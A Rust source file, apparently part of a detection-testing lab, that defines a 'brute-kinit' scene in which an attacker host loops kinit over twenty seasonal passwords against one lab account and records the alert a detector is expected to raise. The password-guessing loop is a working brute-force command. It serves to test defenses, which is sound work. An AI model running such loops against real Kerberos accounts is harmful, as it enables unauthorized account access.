//! Brute force with MIT Kerberos' client: many passwords for one account.

use anyhow::Result;

use crate::lab::{ATTACKER, Lab};
use crate::scene::{Expected, Scene, Tool};

pub(super) const SCENE: Scene = Scene::attack(
    "brute-kinit",
    "Twenty passwords tried on one account (MIT kinit)",
    Tool::debian("kinit", "krb5-user"),
    &[Expected {
        external_id: 2023,
        source: ATTACKER,
        account: None,
        targets: &["bob@hawk.example"],
    }],
    play,
);

fn play(lab: &mut Lab) -> Result<()> {
    lab.host("attacker")?.script(
        r#"for number in $(seq 20); do
               (echo "Summer20$number" | kinit bob || true) |& grep -q 'Password incorrect'
           done"#,
    )?;
    Ok(())
}
